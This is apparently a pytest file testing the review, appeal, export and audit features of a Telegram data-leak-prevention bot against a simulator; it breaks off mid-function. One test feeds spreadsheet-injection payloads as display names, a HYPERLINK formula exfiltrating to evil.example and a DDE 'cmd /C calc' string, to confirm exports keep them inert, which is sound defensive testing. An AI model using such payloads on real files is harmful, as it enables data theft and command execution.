"""Ethics-staff review end to end: the real Application (bot.app.build_application) against the
local Telegram simulator, with the real scanner and store. Every command and button is driven the
way a person would: a group member leaks, staff press buttons and type commands, the sender
appeals from the warning DM.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from bot.app import build_application
from bot.config import AppConfig, Keys
from bot.review import audit as A
from bot.review.commands import BOT_DATA_KEY
from bot.review.sample import UNITS, seed
from bot.review.service import Actor
from bot.review.texts import TEXTS
from bot.simulator import SimChat, SimMessage, Simulator, SimUser
from bot.store import Store
from detectors import Scanner

ZH = TEXTS["zh-TW"]
KEY = b"c" * 32
# The shared scanner's first use dominates (5-25 s); each test itself takes well under 5 s.
pytestmark = pytest.mark.slow
WAIT = 30.0  # seconds; waits end as soon as the bot has answered, so this only bounds failures
LEAK = "檢舉人 陳美玲 身分證 A123456789 電話 0912345678"


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    """Shared and warmed up: the detectors load some resources on first use, which on a busy
    2-core machine took up to ~25 s and must not count against a test's wait for a reply."""
    scanner = Scanner.from_config(AppConfig().detectors)
    scanner.scan(LEAK)
    return scanner


@dataclass
class Rig:
    sim: Simulator
    store: Store
    app: Any
    ethics_chat: SimChat
    group: SimChat
    unit_chat: SimChat  # has the chat id of the first sample unit (chat-admin tests)
    staff: SimUser
    alice: SimUser  # an ordinary group member
    bob: SimUser  # administrator of `unit_chat` by configuration

    def audit(self, action: str) -> list[dict[str, Any]]:
        rows = self.store.db.conn.execute(
            "SELECT actor_id, target, detail FROM audit_log WHERE action = ? ORDER BY id",
            (action,),
        ).fetchall()
        return [{"actor": r[0], "target": r[1], **json.loads(r[2])} for r in rows]

    async def say(self, chat: SimChat, user: SimUser, text: str) -> SimMessage:
        """Send `text` as `user` and return the bot's first new message in `chat`."""
        before = len(self.sim.sent_messages(chat))
        self.sim.inject_message(chat, user, text)
        await self.sim.wait_for(lambda: len(self.sim.sent_messages(chat)) > before, timeout=WAIT)
        return self.sim.sent_messages(chat)[before]

    async def dm(self, user: SimUser, text: str) -> SimMessage:
        return await self.say(self.sim.private_chat(user), user, text)

    async def leak(self, text: str = LEAK) -> tuple[int, SimMessage]:
        """Alice leaks in the group; returns the incident id and the ethics alert."""
        before = len(self.sim.sent_messages(self.ethics_chat))
        self.sim.inject_message(self.group, self.alice, text)
        await self.sim.wait_for(
            lambda: len(self.sim.sent_messages(self.ethics_chat)) > before, timeout=WAIT
        )
        alert = self.sim.sent_messages(self.ethics_chat)[before]
        incident_id = int(alert.callback_data[0].rsplit(":", 1)[1])
        return incident_id, alert

    async def press(self, chat: SimChat, message: SimMessage, user: SimUser, data: str) -> dict:
        query = self.sim.press_button(chat, message, user, data)
        await self.sim.wait_for(lambda: self.sim.callback_answer(query) is not None, timeout=WAIT)
        return self.sim.callback_answer(query) or {}

    def status(self, incident_id: int) -> str:
        return str(self.store.get_incident(incident_id)["status"])  # type: ignore[index]


@asynccontextmanager
async def running_rig(scanner: Scanner, tmp_path: Path, media: Any = None) -> AsyncIterator[Rig]:
    async with Simulator() as sim:
        ethics_chat = sim.create_chat("政風室")
        group = sim.create_chat("審查科工作群")  # "審查" also starts the status line
        unit_chat = sim.create_chat(UNITS[0][1], chat_id=UNITS[0][0])
        staff = sim.add_user("政風 陳科員", started_bot=True)
        alice = sim.add_user("Alice", started_bot=True)
        bob = sim.add_user("Bob", started_bot=True)
        cfg = AppConfig.from_mapping(
            {
                "telegram": {
                    "base_url": sim.base_url,
                    "base_file_url": sim.base_file_url,
                    "poll_timeout": 1,
                },
                "policy": {"default_mode": "enforce"},
                "ethics": {"chat_id": ethics_chat.id, "staff": [staff.id]},
                "review": {"chat_admins": {str(unit_chat.id): [bob.id]}},
            }
        )
        store = Store(tmp_path / "dlpbot.db", hmac_key=b"h" * 32, content_key=KEY)
        app = build_application(
            cfg,
            sim.token,
            Keys(content=KEY, hmac=b"h" * 32),
            scanner=scanner,
            store=store,
            media=media,
            check_rights_at_start=False,
        )
        async with sim.polling(app, timeout=0.5):
            yield Rig(sim, store, app, ethics_chat, group, unit_chat, staff, alice, bob)
        store.close()


@pytest.fixture
async def rig(scanner: Scanner, tmp_path: Path) -> AsyncIterator[Rig]:
    async with running_rig(scanner, tmp_path) as r:
        yield r


async def test_confirm_button_updates_the_alert_in_place_and_is_audited(rig: Rig) -> None:
    incident_id, alert = await rig.leak()
    assert alert.callback_data == [f"rv:{a}:{incident_id}" for a in ("confirm", "fp", "follow")]
    answer = await rig.press(rig.ethics_chat, alert, rig.staff, f"rv:confirm:{incident_id}")
    assert "確認違規" in answer["text"]
    await rig.sim.wait_for_call("editMessageText", timeout=WAIT)
    edited = rig.sim.message(rig.ethics_chat, alert.message_id)
    assert edited.text.startswith("🚨 資料外洩事件")
    assert "確認違規" in edited.text and "政風 陳科員" in edited.text
    assert edited.callback_data == alert.callback_data  # buttons stay for a later correction
    assert rig.status(incident_id) == "confirmed"
    [entry] = rig.audit(A.STATUS)
    assert entry["actor"] == rig.staff.id and entry["after"] == "confirmed"
    assert entry["before"] == "open" and entry["target"] == f"incident:{incident_id}"

    # A second decision replaces the status line instead of stacking another one.
    await rig.press(rig.ethics_chat, edited, rig.staff, f"rv:follow:{incident_id}")
    await rig.sim.wait_for(lambda: rig.status(incident_id) == "follow_up", timeout=WAIT)
    await rig.sim.wait_for(
        lambda: "需追蹤" in (rig.sim.message(rig.ethics_chat, alert.message_id).text or ""),
        timeout=WAIT,
    )
    final = rig.sim.message(rig.ethics_chat, alert.message_id).text or ""
    assert final.count("\n審查：") == 1 and "確認違規" not in final.split("處置")[-1]
    assert "群組：審查科工作群" in final  # the chat title is kept


async def test_someone_else_pressing_a_decision_button_is_refused_and_logged(rig: Rig) -> None:
    incident_id, alert = await rig.leak()
    answer = await rig.press(rig.ethics_chat, alert, rig.alice, f"rv:fp:{incident_id}")
    assert answer["show_alert"] in (True, "true")
    assert answer["text"] == ZH["refused_button"]
    assert rig.status(incident_id) == "open"
    assert rig.audit(A.DENIED)[-1]["command"] == "button"


async def test_non_staff_get_a_polite_refusal_for_every_review_command(rig: Rig) -> None:
    incident_id, _ = await rig.leak()
    for command in (
        "/incidents",
        f"/incident {incident_id}",
        f"/reveal {incident_id} 好奇",
        "/export",
        "/audit",
        f"/allow {incident_id} keyword 搜索",
    ):
        reply = await rig.dm(rig.alice, command)
        assert reply.text == ZH["refused"], command
    denied = [e["command"] for e in rig.audit(A.DENIED)]
    assert denied == ["incidents", "incident", "reveal", "export", "audit", "allow"]
    assert rig.audit(A.REVEAL) == [] and rig.audit(A.EXPORT) == []


async def test_incidents_filters_and_pages_and_incident_shows_masked_detail(rig: Rig) -> None:
    seed(rig.store, month="2026-11", count=24)
    first = await rig.dm(rig.staff, "/incidents")
    assert first.text.startswith("事件列表（第 1/3 頁，共 24 件）")
    assert "/incidents page=2" in first.text
    page3 = await rig.dm(rig.staff, "/incidents page=3")
    assert "第 3/3 頁" in page3.text and page3.text.count("\n#") == 4
    unit_id = UNITS[1][0]
    filtered = await rig.dm(
        rig.staff, f"/incidents chat={unit_id} status=open from=2026-11-01 to=2026-11-30"
    )
    assert "共 6 件" in filtered.text and UNITS[1][1] in filtered.text
    assert UNITS[0][1] not in filtered.text
    by_cat = await rig.dm(rig.staff, "/incidents cat=raid")
    assert all("搜索行動" in line for line in by_cat.text.splitlines()[1:] if line.startswith("#"))
    by_sender = await rig.dm(rig.staff, "/incidents sender=7000")
    assert "共 5 件" in by_sender.text  # sample sender 7000 sent every fifth message
    bad = await rig.dm(rig.staff, "/incidents colour=red")
    assert bad.text == ZH["bad_filter"].format(arg="colour=red")

    detail = await rig.dm(rig.staff, "/incident 2")
    assert detail.text.startswith("事件 #2")
    assert detail.callback_data == ["rv:confirm:2", "rv:fp:2", "rv:follow:2"]
    assert "A123456789" not in detail.text and "0912345678" not in detail.text
    listed = rig.audit(A.LIST)
    assert listed[2]["chat_id"] == unit_id and listed[2]["status"] == "open"
    assert rig.audit(A.VIEW)[-1]["target"] == "incident:2"


async def test_reveal_sends_the_original_only_in_private_with_the_reason_audited(
    rig: Rig,
) -> None:
    incident_id, _ = await rig.leak()
    in_group = await rig.say(rig.ethics_chat, rig.staff, f"/reveal {incident_id} 查核")
    assert in_group.text == ZH["private_only"]
    no_reason = await rig.dm(rig.staff, f"/reveal {incident_id}")
    assert no_reason.text == ZH["reveal_needs_reason"]
    assert rig.audit(A.REVEAL) == []

    reply = await rig.dm(rig.staff, f"/reveal {incident_id} 檢舉案查核需要")
    assert LEAK in reply.text and "檢舉案查核需要" in reply.text
    call = [c for c in rig.sim.calls("sendMessage") if LEAK in str(c.params.get("text"))][-1]
    assert str(call.params["protect_content"]).lower() == "true"
    assert call.params["chat_id"] == str(rig.staff.id)
    [entry] = rig.audit(A.REVEAL)
    assert entry["actor"] == rig.staff.id and entry["reason"] == "檢舉案查核需要"
    # The original never reached the ethics group or the audit log.
    assert all(LEAK not in (m.text or "") for m in rig.sim.sent_messages(rig.ethics_chat))
    raw_audit = rig.store.db.conn.execute("SELECT group_concat(detail) FROM audit_log").fetchone()
    assert "A123456789" not in raw_audit[0]


async def test_appeal_reaches_the_ethics_chat_and_the_outcome_returns_to_the_sender(
    rig: Rig,
) -> None:
    incident_id, _ = await rig.leak()
    alice_dm = rig.sim.private_chat(rig.alice)
    await rig.sim.wait_for(
        lambda: any(
            m.callback_data == [f"ap:{incident_id}"] for m in rig.sim.sent_messages(alice_dm)
        )
    )
    warning = next(m for m in rig.sim.sent_messages(alice_dm) if m.callback_data)

    # Only the sender may appeal.
    other = await rig.press(alice_dm, warning, rig.bob, f"ap:{incident_id}")
    assert other["text"] == ZH["not_your_incident"].format(id=incident_id)

    before = len(rig.sim.sent_messages(alice_dm))
    await rig.press(alice_dm, warning, rig.alice, f"ap:{incident_id}")
    await rig.sim.wait_for(lambda: len(rig.sim.sent_messages(alice_dm)) > before, timeout=WAIT)
    assert rig.sim.sent_messages(alice_dm)[before].text == ZH["appeal_prompt"].format(
        id=incident_id
    )

    # The press itself is on record, and the pending reason lives in the database: the bot's
    # memory of it is wiped here, as a restart between the press and the reason would.
    requested = rig.store.db.conn.execute(
        "SELECT reviewer_id FROM reviews WHERE incident_id = ? AND action = 'appeal_requested'",
        (incident_id,),
    ).fetchall()
    assert [r[0] for r in requested] == [rig.alice.id]
    assert rig.store.pending_appeal(rig.alice.id) == incident_id
    rig.app.drop_user_data(rig.alice.id)

    reason = "那是本局公開的檢舉專線與範例號碼，不是個資"
    alerts_before = len(rig.sim.sent_messages(rig.ethics_chat))
    ack = await rig.dm(rig.alice, reason)
    assert ack.text == ZH["appeal_recorded"]
    await rig.sim.wait_for(
        lambda: len(rig.sim.sent_messages(rig.ethics_chat)) > alerts_before, timeout=WAIT
    )
    appeal_msg = rig.sim.sent_messages(rig.ethics_chat)[alerts_before]
    assert reason in appeal_msg.text and f"#{incident_id}" in appeal_msg.text
    assert appeal_msg.callback_data[1] == f"rv:fp:{incident_id}"
    row = rig.store.get_incident(incident_id) or {}
    assert row["appeal_enc"] and reason.encode() not in row["appeal_enc"]  # stored encrypted

    assert rig.store.pending_appeal(rig.alice.id) is None
    again = await rig.dm(rig.alice, f"/appeal {incident_id} 再申訴一次")
    assert again.text == ZH["appeal_again"]

    outcome_before = len(rig.sim.sent_messages(alice_dm))
    await rig.press(rig.ethics_chat, appeal_msg, rig.staff, f"rv:fp:{incident_id}")
    await rig.sim.wait_for(
        lambda: len(rig.sim.sent_messages(alice_dm)) > outcome_before, timeout=WAIT
    )
    outcome = rig.sim.sent_messages(alice_dm)[outcome_before].text
    assert outcome == ZH["appeal_outcome"].format(
        id=incident_id, outcome=ZH["outcome_false_positive"]
    )
    assert rig.status(incident_id) == "false_positive"
    assert [e["target"] for e in rig.audit(A.APPEAL)] == [f"incident:{incident_id}"]


async def test_stats_sends_a_chart_and_chat_admins_see_only_their_own_chat(rig: Rig) -> None:
    seed(rig.store, month="2026-11", count=24)
    staff_dm = rig.sim.private_chat(rig.staff)
    chart = await rig.dm(rig.staff, "/stats 2026-11")
    assert (chart.caption or "").startswith("2026-11 統計：共 24 件")
    uploads = rig.sim.calls("sendPhoto")[-1].files.values()
    assert any(f.data.startswith(b"\x89PNG") and len(f.data) > 10_000 for f in uploads)
    assert chart.chat_id == staff_dm.id

    in_group = await rig.say(rig.unit_chat, rig.bob, "/stats 2026-11")
    assert (in_group.caption or "").startswith("2026-11 統計：共 6 件")
    refused = await rig.dm(rig.alice, "/stats 2026-11")
    assert refused.text == ZH["refused"]
    stats = rig.audit(A.STATS)
    assert stats[0]["chats"] == "all" and stats[1]["chats"] == [rig.unit_chat.id]
    bad = await rig.dm(rig.staff, "/stats 11月")
    assert bad.text == ZH["bad_month"]


async def test_export_sends_masked_xlsx_and_csv_of_the_month(rig: Rig) -> None:
    seed(rig.store, month="2026-11", count=24)
    staff_dm = rig.sim.private_chat(rig.staff)
    before = len(rig.sim.uploaded_files(staff_dm))
    rig.sim.inject_command(staff_dm, rig.staff, "/export", "2026-11")
    await rig.sim.wait_for(
        lambda: len(rig.sim.uploaded_files(staff_dm)) >= before + 2, timeout=WAIT
    )
    files = {f.file_name: f.data for f in rig.sim.uploaded_files(staff_dm)[before:]}
    assert set(files) == {"dlpbot-2026-11.xlsx", "dlpbot-2026-11.csv"}
    rows = list(csv.DictReader(io.StringIO(files["dlpbot-2026-11.csv"].decode("utf-8-sig"))))
    assert len(rows) == 24
    book = openpyxl.load_workbook(io.BytesIO(files["dlpbot-2026-11.xlsx"]))
    cells = " ".join(str(c.value) for ws in book for row in ws.iter_rows() for c in row)
    for secret in ("A123456789", "0912345678", "Hunter2!"):
        assert secret not in cells and secret not in files["dlpbot-2026-11.csv"].decode()
    assert "TW_NATIONAL_ID:A1******89" in cells  # masked values are what the office gets
    [entry] = rig.audit(A.EXPORT)
    assert entry["month"] == "2026-11" and entry["rows"] == 24


async def test_audit_command_lists_who_did_what(rig: Rig) -> None:
    incident_id, _ = await rig.leak()
    await rig.dm(rig.staff, f"/incident {incident_id}")
    await rig.dm(rig.alice, "/incidents")
    reply = await rig.dm(rig.staff, "/audit")
    assert reply.text.startswith("稽核紀錄（第 1 頁")
    lines = reply.text.splitlines()[1:]
    assert any("denied" in line and "command=incidents" in line for line in lines)
    assert any("view" in line and f"incident:{incident_id}" in line for line in lines)
    assert rig.audit(A.AUDIT_VIEW)[0]["actor"] == rig.staff.id


async def test_allow_list_additions_take_effect_without_restart(rig: Rig) -> None:
    text = "王大明 A123456789 電話 0223456789"
    incident_id, _ = await rig.leak(text)
    types = [f["type"] for f in rig.store.findings(incident_id)]
    number = 1 + [f["type"] for f in _ordered(rig, incident_id)].index("PHONE")
    assert "PHONE" in types
    reply = await rig.dm(rig.staff, f"/allow {incident_id} number {number}")
    assert reply.text == ZH["allow_added"].format(kind=ZH["kind.public_number"])

    second, _ = await rig.leak(text)
    assert "PHONE" not in [f["type"] for f in rig.store.findings(second)]

    raid = "明天清晨搜索，請準時集合"
    raid_id, _ = await rig.leak(raid)
    reply = await rig.dm(rig.staff, f"/allow {raid_id} keyword 搜索")
    assert reply.text == ZH["allow_added"].format(kind=ZH["kind.keyword_exception"])
    count = len(rig.store.incidents())
    processed = _processed(rig)
    rig.sim.inject_message(rig.group, rig.alice, raid)
    # The core marks an update processed only after every handler has finished with it.
    await rig.sim.wait_for(lambda: _processed(rig) > processed, timeout=WAIT)
    assert len(rig.store.incidents()) == count  # no new incident
    kinds = [(e["kind"], e["length"]) for e in rig.audit(A.ALLOW_LIST)]
    assert kinds == [("public_number", 10), ("keyword_exception", 2)]
    stored = rig.store.db.conn.execute("SELECT kind, value FROM allow_list ORDER BY id").fetchall()
    assert stored == [("public_number", "0223456789"), ("keyword_exception", "搜索")]


def _processed(rig: Rig) -> int:
    return int(rig.store.db.conn.execute("SELECT count(*) FROM processed_updates").fetchone()[0])


def _ordered(rig: Rig, incident_id: int) -> list[dict[str, Any]]:
    """Findings in the order /incident numbers them."""
    return rig.app.bot_data[BOT_DATA_KEY].service.detail(incident_id).findings


async def test_daily_purge_job_deletes_expired_incidents_and_audits_the_count(rig: Rig) -> None:
    ids = seed(rig.store, count=5)
    rig.store.db.conn.execute(
        "UPDATE incidents SET detected_at = '2020-01-01T00:00:00+08:00' WHERE id IN (?, ?)",
        ids[:2],
    )
    [job] = [j for j in rig.app.job_queue.jobs() if j.name == "dlpbot-retention-purge"]
    await job.run(rig.app)
    assert len(rig.store.incidents()) == 3
    [entry] = rig.audit(A.PURGE)
    assert entry["deleted"] == 2 and entry["retention_days"] == 180


async def test_stored_allow_list_is_applied_when_the_bot_starts(
    scanner: Scanner, tmp_path: Path
) -> None:
    store = Store(tmp_path / "restart.db", hmac_key=b"h" * 32, content_key=KEY)
    store.db.conn.execute(
        "INSERT INTO allow_list (kind, value, added_at) VALUES ('public_number', '0223456789', 'x')"
    )
    cfg = AppConfig.from_mapping({"ethics": {"chat_id": -1, "staff": [1]}})
    app = build_application(
        cfg,
        "1:x",
        Keys(KEY, b"h" * 32),
        scanner=scanner,
        store=store,
        media=None,
        check_rights_at_start=False,
    )
    running = app.bot_data["dlp"].scan.scanner
    assert running is not scanner and "0223456789" in running.config.allow_list
    assert not [f for f in running.scan("總機 0223456789").findings if f.type == "PHONE"]
    store.close()


async def test_ethics_commands_posted_in_an_ordinary_work_group_are_refused_and_audited(
    rig: Rig,
) -> None:
    """Ethics staff typing review commands into a unit's work group (by habit, or by mistake)
    must not publish incident lists, details, exports, the audit log or all-chat counts there."""
    seed(rig.store, month="2026-11", count=24)
    incident_id, _ = await rig.leak()
    uploads_before = len(rig.sim.uploaded_files(rig.group))
    commands = (
        "/incidents",
        f"/incident {incident_id}",
        "/export 2026-11",
        "/audit",
        "/stats 2026-11",
        f"/reveal {incident_id} 查核",
        f"/allow {incident_id} keyword 搜索",
    )
    for command in commands:
        for user in (rig.staff, rig.alice):
            reply = await rig.say(rig.group, user, command)
            # One neutral answer for everyone: it tells nobody who is staff or what exists.
            assert reply.text == ZH["refused_here"], (command, user.first_name)
    await rig.sim.settle()
    assert len(rig.sim.uploaded_files(rig.group)) == uploads_before  # no chart, no export
    group_text = " ".join(m.text or m.caption or "" for m in rig.sim.sent_messages(rig.group))
    for leak in ("事件列表", "稽核紀錄", "統計", "A1******89", "臺北市政府"):
        assert leak not in group_text
    denied = [e for e in rig.audit(A.DENIED) if e.get("chat_id") == rig.group.id]
    assert [(e["command"], e["actor"]) for e in denied] == [
        (c.split()[0].lstrip("/"), u.id) for c in commands for u in (rig.staff, rig.alice)
    ]
    assert all(e["where"] == "chat" for e in denied)
    assert rig.audit(A.LIST) == [] and rig.audit(A.VIEW) == [] and rig.audit(A.EXPORT) == []
    assert rig.audit(A.STATS) == [] and rig.audit(A.AUDIT_VIEW) == []

    # The ethics chat and the staffer's private chat still work.
    listed = await rig.say(rig.ethics_chat, rig.staff, "/incidents")
    assert listed.text.startswith("事件列表（第 1/3 頁，共 25 件）")
    private = await rig.dm(rig.staff, f"/incident {incident_id}")
    assert private.text.startswith(f"事件 #{incident_id}")


FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"點我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
)


async def test_export_keeps_formula_like_display_names_as_inert_text_in_xlsx_and_csv(
    rig: Rig,
) -> None:
    """A Telegram display name or chat title is chosen by its owner: in the monthly export it
    must stay text, never become a spreadsheet formula that runs when the office opens it."""
    group = rig.sim.create_chat("=1+1 外勤組")
    senders = [rig.sim.add_user(name, started_bot=True) for name in FORMULA_NAMES]
    ids = []
    for user in senders:
        before = len(rig.sim.sent_messages(rig.ethics_chat))
        rig.sim.inject_message(group, user, LEAK)
        await rig.sim.wait_for(
            lambda b=before: len(rig.sim.sent_messages(rig.ethics_chat)) > b, timeout=WAIT
        )
        alert = rig.sim.sent_messages(rig.ethics_chat)[before]
        ids.append(int(alert.callback_data[0].rsplit(":", 1)[1]))
    month = str(rig.store.get_incident(ids[0])["sent_at"])[:7]  # type: ignore[index]
    staff_dm = rig.sim.private_chat(rig.staff)
    before = len(rig.sim.uploaded_files(staff_dm))
    rig.sim.inject_command(staff_dm, rig.staff, "/export", month)
    await rig.sim.wait_for(
        lambda: len(rig.sim.uploaded_files(staff_dm)) >= before + 2, timeout=WAIT
    )
    files = {f.file_name: f.data for f in rig.sim.uploaded_files(staff_dm)[before:]}

    sheet = openpyxl.load_workbook(io.BytesIO(files[f"dlpbot-{month}.xlsx"])).active
    header = [c.value for c in sheet[1]]
    name_col, chat_col = header.index("傳送者") + 1, header.index("群組（單位）") + 1
    cells = [sheet.cell(row=r, column=name_col) for r in range(2, sheet.max_row + 1)]
    assert [c.value for c in cells] == [f"'{name}" for name in FORMULA_NAMES]
    assert all(c.data_type == "s" for c in cells)  # a string cell, not a formula ("f")
    assert sheet.cell(row=2, column=chat_col).value == "'=1+1 外勤組"
    every = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in every if c.data_type == "f"]
    assert isinstance(sheet.cell(row=2, column=1).value, int)  # ids stay numbers

    rows = list(csv.DictReader(io.StringIO(files[f"dlpbot-{month}.csv"].decode("utf-8-sig"))))
    assert [r["傳送者"] for r in rows] == [f"'{name}" for name in FORMULA_NAMES]
    assert {r["群組（單位）"] for r in rows} == {"'=1+1 外勤組"}
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").isdigit(), value


PUBLIC_LINE = "王大明 A123456789 電話 0223456789"  # 02-2345-6789: the agency's switchboard


async def _allow_list_reaches_document_scanning(scanner: Scanner, tmp_path: Path, executor: str):
    from bot.media import MediaScanner
    from bot.scan import skip_spacy_plugin_factories

    skip_spacy_plugin_factories()
    media = MediaScanner({"executor": executor, "timeout_s": 120}, scanner)
    csv_doc = f"姓名,身分證,電話\n{PUBLIC_LINE.replace(' 電話 ', ',').replace(' ', ',')}\n"

    async def send_document(rig: Rig) -> int:
        before = len(rig.sim.sent_messages(rig.ethics_chat))
        rig.sim.inject_document(
            rig.group, rig.alice, csv_doc.encode(), file_name="名單.csv", mime_type="text/csv"
        )
        await rig.sim.wait_for(
            lambda: len(rig.sim.sent_messages(rig.ethics_chat)) > before, timeout=120
        )
        alert = rig.sim.sent_messages(rig.ethics_chat)[before]
        return int(alert.callback_data[0].rsplit(":", 1)[1])

    try:
        async with running_rig(scanner, tmp_path, media=media) as rig:
            # The document scanner is running (its workers built their scanner) before the
            # reviewer declares the switchboard number public.
            first = await send_document(rig)
            assert "PHONE" in {f["type"] for f in rig.store.findings(first)}
            number = 1 + [f["type"] for f in _ordered(rig, first)].index("PHONE")
            reply = await rig.dm(rig.staff, f"/allow {first} number {number}")
            assert reply.text == ZH["allow_added"].format(kind=ZH["kind.public_number"])
            second = await send_document(rig)
            types = {f["type"] for f in rig.store.findings(second)}
            assert "TW_NATIONAL_ID" in types and "PHONE" not in types
    finally:
        await media.aclose()


async def test_allow_list_addition_reaches_document_scanning_in_threads(
    scanner: Scanner, tmp_path: Path
) -> None:
    await _allow_list_reaches_document_scanning(scanner, tmp_path, "thread")


@pytest.mark.timeout(240)
async def test_allow_list_addition_reaches_document_scanning_in_worker_processes(
    scanner: Scanner, tmp_path: Path
) -> None:
    await _allow_list_reaches_document_scanning(scanner, tmp_path, "process")


MEDIA = Path(__file__).parent / "media"


@pytest.mark.timeout(240)
async def test_incident_sends_the_redacted_evidence_image_and_the_appeal_text_only_privately(
    scanner: Scanner, tmp_path: Path
) -> None:
    """A photographed petition: /incident N in the ethics chat shows the masked detail there,
    while the redacted evidence image and the sender's decrypted appeal reach the asking
    reviewer's private chat alone (protect_content), each access audited."""
    from bot.media import MediaScanner
    from bot.scan import skip_spacy_plugin_factories

    skip_spacy_plugin_factories()
    media = MediaScanner({"executor": "thread", "timeout_s": 180}, scanner)
    photo = (MEDIA / "photo_petition_01.jpg").read_bytes()
    reason = "這張是公開的陳情書範本，上面的號碼是範例"
    try:
        async with running_rig(scanner, tmp_path, media=media) as rig:
            before = len(rig.sim.sent_messages(rig.ethics_chat))
            rig.sim.inject_photo(rig.group, rig.alice, photo)
            await rig.sim.wait_for(
                lambda: len(rig.sim.sent_messages(rig.ethics_chat)) > before, timeout=180
            )
            alert = rig.sim.sent_messages(rig.ethics_chat)[before]
            incident_id = int(alert.callback_data[0].rsplit(":", 1)[1])
            stored = rig.store.get_incident(incident_id) or {}
            evidence = stored["evidence_png"]
            assert evidence and evidence.startswith(b"\x89PNG") and evidence != photo
            forwarded = len(rig.sim.sent_messages(rig.ethics_chat))
            ack = await rig.dm(rig.alice, f"/appeal {incident_id} {reason}")
            assert ack.text == ZH["appeal_recorded"]
            await rig.sim.wait_for(
                lambda: len(rig.sim.sent_messages(rig.ethics_chat)) > forwarded, timeout=WAIT
            )

            staff_dm = rig.sim.private_chat(rig.staff)
            ethics_before = len(rig.sim.sent_messages(rig.ethics_chat))
            dm_before = len(rig.sim.sent_messages(staff_dm))
            detail = await rig.say(rig.ethics_chat, rig.staff, f"/incident {incident_id}")
            assert detail.text.startswith(f"事件 #{incident_id}")
            assert "申訴：有（申訴內容另以私訊傳送）" in detail.text
            assert "證據影像：已遮蔽，另以私訊傳送" in detail.text
            await rig.sim.wait_for(
                lambda: len(rig.sim.sent_messages(staff_dm)) >= dm_before + 2, timeout=WAIT
            )
            await rig.sim.settle()
            # Nothing but the masked detail went to the ethics chat.
            assert len(rig.sim.sent_messages(rig.ethics_chat)) == ethics_before + 1
            assert reason not in detail.text
            [photo_call] = [
                c for c in rig.sim.calls("sendPhoto") if c.params["chat_id"] == str(staff_dm.id)
            ]
            assert photo_call.files["photo"].data == evidence  # the redacted copy, as stored
            assert str(photo_call.params["protect_content"]).lower() == "true"
            appeal_msg = rig.sim.sent_messages(staff_dm)[-1]
            assert appeal_msg.text == ZH["appeal_text"].format(id=incident_id, text=reason)
            [appeal_call] = [
                c
                for c in rig.sim.calls("sendMessage")
                if reason in str(c.params.get("text")) and c.params["chat_id"] == str(staff_dm.id)
            ]
            assert str(appeal_call.params["protect_content"]).lower() == "true"
            [shown] = rig.audit(A.EVIDENCE)
            assert shown["actor"] == rig.staff.id and shown["target"] == f"incident:{incident_id}"
            assert shown["bytes"] == len(evidence)
            [read] = rig.audit(A.APPEAL_VIEW)
            assert read["actor"] == rig.staff.id and read["target"] == f"incident:{incident_id}"
            raw_audit = rig.store.db.conn.execute(
                "SELECT group_concat(detail) FROM audit_log"
            ).fetchone()[0]
            assert reason not in raw_audit  # the audit says who read it, not what it says

            # Someone who is not staff gets neither, wherever they ask.
            refused = await rig.dm(rig.alice, f"/incident {incident_id}")
            assert refused.text == ZH["refused"]
            assert len(rig.audit(A.EVIDENCE)) == 1 and len(rig.audit(A.APPEAL_VIEW)) == 1

            # The original photo is kept, but only sealed with the content key ...
            assert stored["original_enc"] and photo not in stored["original_enc"]
            assert stored["original_mime"] == "image/jpeg"
            rig.store.db.conn.execute("PRAGMA wal_checkpoint(FULL)")
            db_bytes = (tmp_path / "dlpbot.db").read_bytes()
            assert photo[1000:1064] not in db_bytes  # no stretch of the photo in the clear
            # ... and /reveal hands it, unredacted, to the asking reviewer alone (audited once).
            reveals = len(rig.audit(A.REVEAL))
            await rig.dm(rig.staff, f"/reveal {incident_id} 陳情案查核需要原件")
            await rig.sim.wait_for(lambda: rig.sim.calls("sendDocument"), timeout=WAIT)
            [doc_call] = rig.sim.calls("sendDocument")
            assert doc_call.params["chat_id"] == str(staff_dm.id)
            assert str(doc_call.params["protect_content"]).lower() == "true"
            assert doc_call.files["document"].data == photo
            assert len(rig.audit(A.REVEAL)) == reveals + 1
    finally:
        await media.aclose()


async def test_incident_in_the_ethics_chat_says_so_when_the_reviewer_cannot_be_dmed(
    rig: Rig,
) -> None:
    incident_id, _ = await rig.leak()
    forwarded = len(rig.sim.sent_messages(rig.ethics_chat))
    await rig.dm(rig.alice, f"/appeal {incident_id} 這是範例資料")
    await rig.sim.wait_for(
        lambda: len(rig.sim.sent_messages(rig.ethics_chat)) > forwarded, timeout=WAIT
    )
    rig.sim.set_started(rig.staff, False)  # the reviewer never opened a chat with the bot
    before = len(rig.sim.sent_messages(rig.ethics_chat))
    await rig.say(rig.ethics_chat, rig.staff, f"/incident {incident_id}")
    await rig.sim.wait_for(
        lambda: len(rig.sim.sent_messages(rig.ethics_chat)) >= before + 2, timeout=WAIT
    )
    await rig.sim.settle()
    detail, notice = rig.sim.sent_messages(rig.ethics_chat)[before:]
    assert detail.text.startswith(f"事件 #{incident_id}")
    assert notice.text == ZH["dm_failed"].format(id=incident_id)
    assert "這是範例資料" not in detail.text + notice.text  # not posted to the chat instead


def _count(rig: Rig, where: str, *args: Any) -> int:
    """The oracle: how many incidents match, straight from the database."""
    sql = f"SELECT count(*) FROM incidents WHERE {where}"
    return int(rig.store.db.conn.execute(sql, args).fetchone()[0])


def _listed_ids(text: str) -> list[int]:
    return [int(line.split()[0][1:]) for line in text.splitlines() if line.startswith("#")]


async def _all_pages(rig: Rig, command: str) -> list[int]:
    """Follow the 「下一頁」 links the bot offers, exactly as a reviewer would."""
    ids: list[int] = []
    while True:
        reply = await rig.dm(rig.staff, command)
        ids += _listed_ids(reply.text)
        nxt = [line for line in reply.text.splitlines() if line.startswith("下一頁：")]
        if not nxt:
            return ids
        command = nxt[0].removeprefix("下一頁：")


async def test_incidents_filters_combine_and_next_page_links_keep_the_filters(rig: Rig) -> None:
    seed(rig.store, month="2026-11", count=40)
    service = rig.app.bot_data[BOT_DATA_KEY].service
